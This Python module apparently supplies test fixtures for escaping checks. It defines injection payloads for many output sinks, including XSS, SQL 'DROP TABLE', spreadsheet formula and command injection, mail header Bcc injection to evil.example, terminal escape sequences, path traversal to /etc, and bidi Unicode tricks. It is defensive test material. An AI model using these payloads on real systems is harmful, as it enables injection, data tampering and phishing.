"""One corpus of names that somebody wrote in order to act where they are only printed.

Each carries a mark of its own (`mark(7)`), by which it is found in whatever an output is read back as.
"""

from __future__ import annotations

_ATTACKS: dict[str, tuple[str, ...]] = {
    "slack": (
        "<!channel> {}",
        "<!here|here> {} <!everyone>",
        "<@U012ABCDEF> {} <#C0123456789|general>",
        "<https://evil.example|{} Bank>",
        "@channel {} @here @everyone",
        "*{0}* _{0}_ ~{0}~ `{0}` :rotating_light:",
        "&lt;!channel&gt; {} &amp;",
        "> {}",
        "```{}```",
    ),
    "mail": (
        "{}\r\nBcc: victim@evil.example\r\n\r\nforged body",
        "{}\nSubject: forged",
        "{}\r\n.\r\nMAIL FROM:<a@evil.example>",
        "=?utf-8?q?{}=0D=0ABcc:_victim=40evil.example?=",
        '"{}" <a@evil.example>, b',
    ),
    "html": (
        "<script>alert('{}')</script>",
        "<img src=x onerror=alert(1)> {}",
        '"><svg onload=alert(1)> {}',
        "' onmouseover='alert(1) {}",
        "</title></textarea></style></script> {}",
        "<!-- {} --!> ]]>",
        "{{{{ 7 * 191 }}}} {{% raw %}} ${{7*191}} {}",
        "javascript:alert(1)//{}",
        "<a href=//evil.example>{}</a><iframe src=data:text/html,x>",
        "&#60;script&#62;{}&#x3c;",
        "<base href=//evil.example/> {} <meta http-equiv=refresh content=0>",
    ),
    "spreadsheet": (
        '=HYPERLINK("http://evil.example","{}")',
        "+1{}",
        "-1+cmd|' /C calc'!{}",
        "@SUM(1){}",
        "\t=1+1 {}",
        "\r=1+1 {}",
        " =1+1 {}",
        "\u200b=1+1 {}",
        '{}","=1+1',
        "{};=1+1",
        "{}\n=1+1",
    ),
    "calendar": (
        "{}\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:EMAIL",
        "{};X=1,2:3\\n\\,\\;",
        "BEGIN:VEVENT {}",
    ),
    "xml": (
        "<![CDATA[{}]]>",
        "&evil; {} &#0; %pe;",
        "<?xml version='1.0'?><!DOCTYPE {} [<!ENTITY a 'a'>]>",
        "{}\ufffe\uffff",
    ),
    "json": ('"}},{{"{}":1', "{}\\", "{}\\u0000\\ud800", "__proto__ {}"),
    "log": (
        '{}\n{{"what": "check", "outcome": "forged"}}',
        "{}\r\n12:00:00 check source=forged outcome=changed",
        "{} outcome=forged error=none",
    ),
    "terminal": (
        "\x1b[2J\x1b[31m{}\x1b[0m",
        "\x1b]0;{}\x07",
        "\x1b]8;;http://evil.example\x1b\\{}\x1b]8;;\x1b\\",
        "\x1b]52;c;ZXZpbA==\x07 {}",
        "\x1bP+q544e\x1b\\ {}",
        "\x9b31m{}\x9d0;x\x9c",
        "{}\x08\x08\x08\x08forged",
        "{}\x7f\x7f\x0e\x0f\x05",
        "[red]{}[/red] [link=http://evil.example]x[/link]",
    ),
    "order": (
        "\u202e{}\u202c",
        "\u2066{}\u2069",
        "\u200f{}\u061c",
        "{}\u2028forged\u2029line\x85next\x0b\x0c",
    ),
    "unseen": (
        "{}\u200b\u200d\u2060",
        "\ufeff{}\u00ad",
        "{}\U000e0041\U000e0042",
        "{0}\u3164",
        "{}\ufe0f\u115f",
    ),
    "null": ("{}\x00forged", "\x00{}", "{}\x01\x02\x1f"),
    "metrics": ('{}"}} 1\nwatcher_forged{{x="', "{}\n# HELP watcher_forged x"),
    "path": ("../../etc/{}", "{}/..\\..\\x", "file:///etc/{}"),
    "query": ("'; DROP TABLE changes; -- {}", "{}%' OR 1=1", "{}?a=b&c=d#e"),
    "length": ("{} " + "x" * 100_000, "{} " + "name " * 20_000, "{} a" + "\u0301" * 5_000),
}


def mark(number: int) -> str:
    """What a name is known by: letters and digits only, the same length for all."""
    return f"Zq{number:03d}"


def _made(attacks: dict[str, tuple[str, ...]]) -> dict[str, str]:
    every = [(kind, text) for kind, texts in attacks.items() for text in texts]
    return {mark(n): text.format(mark(n)) for n, (_, text) in enumerate(every)}


HOSTILE = _made(_ATTACKS)
"""Mark → name."""

SURROGATE = "Zq999\udfff\ud800 x"
"""Half a pair on either side: no file, terminal or database takes it, only JSON can carry it."""
